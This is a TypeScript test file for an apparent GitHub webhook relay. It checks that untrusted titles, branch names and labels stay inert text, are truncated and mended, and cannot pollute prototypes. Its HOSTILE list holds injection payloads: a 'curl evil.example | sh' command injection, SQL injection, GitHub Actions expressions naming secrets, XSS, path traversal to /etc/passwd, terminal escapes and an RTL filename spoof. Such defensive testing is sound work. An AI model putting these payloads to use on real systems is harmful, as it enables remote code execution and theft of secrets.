import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { consider } from '../../src/core/consider.ts';
import { type Event } from '../../src/core/event.ts';
import { printable, printableJson } from '../../src/core/printable.ts';
import { type Json, type JsonObject } from '../../src/core/json.ts';
import { LIMITS, sizeOf, withAttempt } from '../../src/core/payload.ts';
import { type NotifyRule } from '../../src/core/route.ts';
import { aMember, anEvent, anIndex, aPullRequest, aPush, idOf } from '../build/samples.ts';

const URLS = { server: 'https://github.com', api: 'https://api.github.com', graphql: '' };

/** What a stranger may call a pull request, a branch, a label or a release. */
const HOSTILE: readonly string[] = [
  '"; curl evil.example | sh; #',
  '$(touch /tmp/x)`id`',
  "'; DROP TABLE events; --",
  '${{ github.token }}',
  '${{ secrets.DEPLOY_KEY }} && ${{ toJSON(github) }}',
  '::add-mask::x\r\n::set-output name=a::b',
  'gpj.\u202egnp.exe',
  '\u001b]0;owned\u0007\u001b[2J',
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  '\ufeff\u200b\u2066',
  '__proto__',
  '💥'.repeat(100),
];

const sentFor = (event: Event, payload?: NotifyRule['payload']): JsonObject => {
  const rule: NotifyRule = {
    hub: 'acme/docs',
    on: { push: {}, pull_request: {}, issues: {}, release: {} },
    forks: true,
    ...(payload && { payload }),
  };
  const hub = aMember('acme/docs', { accept: [{ from: ['**'] }] });
  const index = anIndex(hub, aMember('acme/app', { notify: [rule] }));
  const [finding] = consider(event, { index, urls: URLS }).findings;
  expect(finding?.outcome).toBe('fires');
  return withAttempt(finding!.payload, { number: 1, at: 0 });
};
const relayOf = (payload: JsonObject): JsonObject => payload.relay as JsonObject;
const arrives = (payload: JsonObject): JsonObject => JSON.parse(JSON.stringify(payload)) as JsonObject;

const anIssue = (title: string): Event =>
  anEvent('issues', {
    action: 'opened',
    issue: { number: 1, title, labels: [{ name: title }], html_url: 'https://github.com/x' },
    repository: { id: idOf('acme/app'), full_name: 'acme/app' },
  });

describe('the text of strangers', () => {
  it.each(HOSTILE)('comes to the hub as it is, and is never read as anything but text: %j', (text) => {
    const pull = aPullRequest('acme/app', { title: text, head: { ref: text, sha: text, repo: null } });
    expect(arrives(sentFor(pull))).toMatchObject({
      sha: text,
      subject: { title: text, head: text, fork: true },
    });
    expect(
      arrives(sentFor(anIssue(text), { label: '${{ github.event.issue.labels[0].name }}' })),
    ).toMatchObject({
      label: text,
    });
    const own = { text: 'said: ${{ github.event.issue.title }}', list: '${{ github.event.issue.labels }}' };
    expect(arrives(sentFor(anIssue(text), own))).toMatchObject({
      text: `said: ${text}`,
      list: [{ name: text }],
    });
  });

  it.each([
    ['half a character', 'x\ud800y', 'x\ufffdy'],
    ['the other half', '\udc00', '\ufffd'],
    ['the character NUL', 'a\0b', 'a\ufffdb'],
  ])('is mended where no program could take it: %s', (_, text, mended) => {
    expect(sentFor(anIssue(text)).subject).toMatchObject({ title: mended });
    const own = { text: '${{ github.event.issue.title }}', all: '${{ github.event.issue }}' };
    expect(sentFor(anIssue(text), own)).toMatchObject({
      text: mended,
      all: { labels: [{ name: mended }] },
    });
    const named = anEvent('issues', { ...anIssue('x').payload, issue: { number: 1, [text]: text } });
    expect(sentFor(named, { all: '${{ github.event.issue }}' }).all).toEqual({ number: 1, [mended]: mended });
  });

  it('does not become half a character in an event type that is cut', () => {
    const event = anEvent('issues', { ...anIssue('x').payload, action: `${'x'.repeat(92)}💥` });
    const hub = aMember('acme/docs', { accept: [{ from: ['**'] }] });
    const rule = { hub: 'acme/docs', on: { issues: { types: [event.action!] } } };
    const [finding] = consider(event, {
      index: anIndex(hub, aMember('acme/app', { notify: [rule] })),
      urls: URLS,
    }).findings;
    expect(finding?.eventType).toHaveLength(LIMITS.eventType);
    expect(finding?.eventType.isWellFormed()).toBe(true);
  });

  it('is cut openly where it is long: a megabyte of title, message, branch or label', () => {
    const long = 'x'.repeat(1_048_576);
    const byTitle = sentFor(anIssue(long));
    expect((byTitle.subject as JsonObject).title).toHaveLength(256);
    expect(relayOf(byTitle).truncated).toEqual(['subject.title']);
    const push = aPush('acme/app', { head_commit: { message: long }, after: long });
    expect(relayOf(sentFor(push)).truncated).toEqual([
      'subject.message',
      'subject',
      'sender',
      'action',
      'sha',
    ]);
    const linked = { ...anIssue('x').payload, issue: { number: 1, title: 'x', html_url: long } };
    expect(relayOf(sentFor(anEvent('issues', linked))).truncated).toEqual(['subject']);
  });

  it('makes no own property of "__proto__", and loses none', () => {
    const text = '{"number":1,"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}';
    const event = anEvent('issues', { ...anIssue('x').payload, issue: JSON.parse(text) as Json });
    const sent = sentFor(event, { issue: '${{ github.event.issue }}' });
    expect(JSON.stringify(sent.issue)).toBe(text);
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });

  it('never makes a payload that GitHub would refuse, whatever it is', () => {
    const text = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc
        .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 50 })
        .map((units) => String.fromCharCode(...units)),
      fc.integer({ min: 1, max: 100_000 }).map((length) => '\u0001'.repeat(length)),
    );
    fc.assert(
      fc.property(text, text, (title, message) => {
        for (const event of [
          aPullRequest('acme/app', { title, head: { ref: message, sha: title, repo: null } }),
          aPush('acme/app', { head_commit: { message }, sender: { login: title } }),
          anIssue(title),
        ]) {
          const sent = sentFor(event);
          expect(sizeOf(sent)).toBeLessThanOrEqual(LIMITS.bytes);
          expect(JSON.stringify(sent)).not.toMatch(/\\ud[89a-f]/i);
          expect(JSON.stringify(sent)).not.toContain('\\u0000');
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe('text on a terminal', () => {
  it('has no control character, and no mark that turns the reading direction around', () => {
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary' })), (text) => {
        expect(printable(text)).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      }),
    );
  });

  it('means the same as JSON, on one line or indented', () => {
    fc.assert(
      fc.property(fc.jsonValue({ stringUnit: 'binary' }), (value) => {
        expect(JSON.parse(printableJson(value))).toEqual(JSON.parse(JSON.stringify(value)));
        expect(JSON.parse(printableJson(value, 2))).toEqual(JSON.parse(JSON.stringify(value)));
        expect(printableJson(value, 2).replaceAll('\n', '')).not.toMatch(/[\p{Cc}\u202a-\u202e]/u);
      }),
    );
  });
});
